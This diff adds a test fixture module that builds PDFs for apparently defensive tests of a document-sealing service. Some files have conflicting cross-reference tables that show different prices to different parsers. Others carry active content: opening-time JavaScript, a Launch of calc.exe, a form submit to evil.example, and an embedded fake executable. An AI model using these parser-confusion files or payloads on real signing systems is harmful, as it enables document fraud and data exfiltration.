@@ -1,0 +1,243 @@
+// PDFs built byte by byte to be read differently by different parsers: the files of the
+// outside review (issue 33), made here by the tests themselves. `writePdf` lays out objects,
+// cross-reference tables and trailers exactly as told, wrong where a case wants it wrong.
+// And files with active content, made with pdf-lib.
+import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
+
+export type Part =
+  /** `n 0 obj … endobj`. */
+  | { object: number; body: string }
+  /**
+   * A cross-reference table for the objects defined since the last one (the first definition
+   * of each, unless `pointAt` names the index of another part), its trailer (/Size, /Root 1 0 R,
+   * /Prev of the section before unless `prev` says otherwise), startxref and %%EOF.
+   */
+  | { xref: true; pointAt?: Record<number, number>; prev?: 'self' | 'last' | number }
+  /** Bytes as they are. */
+  | { raw: string };
+
+export function writePdf(parts: Part[]): Uint8Array {
+  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
+  const offsets: number[] = [];
+  const xrefOffsets: number[] = [];
+  let since = 0;
+  let size = 1;
+  parts.forEach((part, index) => {
+    offsets[index] = out.length;
+    if ('object' in part) {
+      out += `${part.object} 0 obj\n${part.body}\nendobj\n`;
+      size = Math.max(size, part.object + 1);
+    } else if ('raw' in part) {
+      out += part.raw;
+    } else {
+      const entries = new Map<number, number>();
+      for (let at = since; at < index; at++) {
+        const defined = parts[at] as Part;
+        if ('object' in defined && !entries.has(defined.object))
+          entries.set(defined.object, offsets[at] as number);
+      }
+      for (const [object, partIndex] of Object.entries(part.pointAt ?? {})) {
+        entries.set(Number(object), offsets[partIndex] as number);
+      }
+      const here = out.length;
+      out += 'xref\n0 1\n0000000000 65535 f \n';
+      for (const [object, offset] of [...entries].sort((a, b) => a[0] - b[0])) {
+        out += `${object} 1\n${String(offset).padStart(10, '0')} 00000 n \n`;
+      }
+      // 'last': the file's last section, known only at the end (written as ten digits, patched).
+      const prev =
+        part.prev === 'self' ? here : part.prev === 'last' ? lastMark : (part.prev ?? xrefOffsets.at(-1));
+      out += `trailer\n<< /Size ${size} /Root 1 0 R${prev === undefined ? '' : ` /Prev ${prev}`} >>\nstartxref\n${here}\n%%EOF\n`;
+      xrefOffsets.push(here);
+      since = index + 1;
+    }
+  });
+  out = out.replace(lastMark, String(xrefOffsets.at(-1)).padStart(lastMark.length, '0'));
+  return new Uint8Array(Buffer.from(out, 'latin1'));
+}
+
+const lastMark = '9999999999';
+
+const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
+export const pageContent = (text: string) => {
+  const stream = `BT /F1 24 Tf 72 700 Td (${text}) Tj ET`;
+  return `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`;
+};
+const page = (contents: number) =>
+  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contents} 0 R /Resources << /Font << /F1 5 0 R >> >> >>`;
+
+/** A one-page file whose page says `Total price: 100 EUR`, as objects 1 to 5. */
+export function honestParts(price = '100 EUR'): Part[] {
+  return [
+    { object: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
+    { object: 2, body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
+    { object: 3, body: page(4) },
+    { object: 4, body: pageContent(`Total price: ${price}`) },
+    { object: 5, body: font },
+  ];
+}
+
+/**
+ * The review's files: every reader shows 100 EUR (they follow the table), and a parser that
+ * keeps the last definition in file order would stamp and seal 1,000,000 EUR.
+ */
+export function ambiguousPdfs(): Array<[string, Uint8Array]> {
+  const million = { object: 7, body: pageContent('Total price: 1,000,000 EUR') };
+  return [
+    [
+      'the page tree defined twice, the table pointing at the first',
+      writePdf([
+        ...honestParts(),
+        { object: 6, body: page(7) },
+        million,
+        { object: 2, body: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>' },
+        { xref: true, pointAt: { 2: 1 } },
+      ]),
+    ],
+    [
+      'the page object defined twice, the table pointing at the first',
+      writePdf([...honestParts(), million, { object: 3, body: page(7) }, { xref: true, pointAt: { 3: 2 } }]),
+    ],
+    [
+      'a second page tree after the last section, in no table',
+      writePdf([
+        ...honestParts(),
+        { object: 6, body: page(7) },
+        million,
+        { xref: true },
+        { object: 2, body: '<< /Type /Pages /Kids [6 0 R] /Count 1 >>' },
+      ]),
+    ],
+    [
+      'a table entry pointing at another object',
+      writePdf([...honestParts(), million, { xref: true, pointAt: { 4: 5 } }]),
+    ],
+    ['a section whose /Prev is itself', writePdf([...honestParts(), { xref: true, prev: 'self' }])],
+    [
+      'two sections whose /Prev point at each other',
+      writePdf([
+        ...honestParts(),
+        { xref: true, prev: 'last' },
+        { object: 4, body: pageContent('Total price: 100 EUR') },
+        { xref: true },
+      ]),
+    ],
+    ['a /Prev into the middle of an object', writePdf([...honestParts(), { xref: true, prev: 30 }])],
+  ];
+}
+
+/** An honest update: the second revision changes the price, and its table says so. */
+export function updatedPdf(): Uint8Array {
+  return writePdf([
+    ...honestParts(),
+    { xref: true },
+    { object: 4, body: pageContent('Total price: 200 EUR') },
+    { xref: true },
+  ]);
+}
+
+async function onePage(change: (pdf: PDFDocument) => void | Promise<void>): Promise<Uint8Array> {
+  const pdf = await PDFDocument.create();
+  const added = pdf.addPage([612, 792]);
+  added.drawText('Total price: 100 EUR', { x: 72, y: 700, size: 24 });
+  await change(pdf);
+  return pdf.save();
+}
+
+function annotate(pdf: PDFDocument, annotation: Record<string, unknown>): void {
+  const ref = pdf.context.register(
+    pdf.context.obj({ Type: 'Annot', Rect: [72, 600, 200, 640], ...annotation }),
+  );
+  pdf.getPage(0).node.set(PDFName.of('Annots'), pdf.context.obj([ref]));
+}
+
+const action = (pdf: PDFDocument, fields: Record<string, unknown>) =>
+  pdf.context.obj({ Type: 'Action', ...fields });
+
+/** Files with content a reader runs or opens, each with the words the refusal names it by. */
+export function activeContentPdfs(): Array<[string, Promise<Uint8Array>, RegExp]> {
+  const js = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };
+  return [
+    [
+      'JavaScript run on opening',
+      onePage((pdf) => pdf.catalog.set(PDFName.of('OpenAction'), action(pdf, js))),
+      /JavaScript/,
+    ],
+    [
+      'a document-level script',
+      onePage((pdf) => {
+        const script = pdf.context.register(action(pdf, js));
+        const names = pdf.context.obj({ Names: [PDFString.of('init'), script] });
+        pdf.catalog.set(PDFName.of('Names'), pdf.context.obj({ JavaScript: names }));
+      }),
+      /JavaScript/,
+    ],
+    [
+      'a page script',
+      onePage((pdf) => pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: action(pdf, js) }))),
+      /JavaScript/,
+    ],
+    [
+      'a Launch action',
+      onePage((pdf) =>
+        annotate(pdf, { Subtype: 'Link', A: action(pdf, { S: 'Launch', F: PDFString.of('calc.exe') }) }),
+      ),
+      /starts a program/,
+    ],
+    [
+      'a submit button',
+      onePage((pdf) =>
+        annotate(pdf, {
+          Subtype: 'Widget',
+          FT: 'Btn',
+          T: PDFString.of('Submit'),
+          A: action(pdf, { S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
+        }),
+      ),
+      /sends its data away/,
+    ],
+    [
+      'an embedded file',
+      onePage((pdf) =>
+        pdf.attach(new Uint8Array([0x4d, 0x5a, 0x90, 0]), 'invoice.exe', {
+          mimeType: 'application/x-msdownload',
+        }),
+      ),
+      /embedded files/,
+    ],
+    [
+      'a file attachment annotation',
+      onePage((pdf) => {
+        const file = pdf.context.register(pdf.context.stream('MZ', { Type: 'EmbeddedFile' }));
+        annotate(pdf, {
+          Subtype: 'FileAttachment',
+          FS: pdf.context.obj({ Type: 'Filespec', F: PDFString.of('invoice.exe'), EF: { F: file } }),
+        });
+      }),
+      /file attachments/,
+    ],
+    [
+      'RichMedia',
+      onePage((pdf) => annotate(pdf, { Subtype: 'RichMedia', RichMediaContent: pdf.context.obj({}) })),
+      /RichMedia/,
+    ],
+    [
+      'an XFA form',
+      onePage((pdf) => {
+        const xfa = pdf.context.register(pdf.context.stream('<xdp:xdp/>'));
+        pdf.catalog.set(PDFName.of('AcroForm'), pdf.context.obj({ Fields: [], XFA: xfa }));
+      }),
+      /XFA/,
+    ],
+  ];
+}
+
+/** A plain link (a URI action): allowed under the seal. */
+export function linkPdf(): Promise<Uint8Array> {
+  return onePage((pdf) =>
+    annotate(pdf, {
+      Subtype: 'Link',
+      A: action(pdf, { S: 'URI', URI: PDFString.of('https://example.com/terms') }),
+    }),
+  );
+}
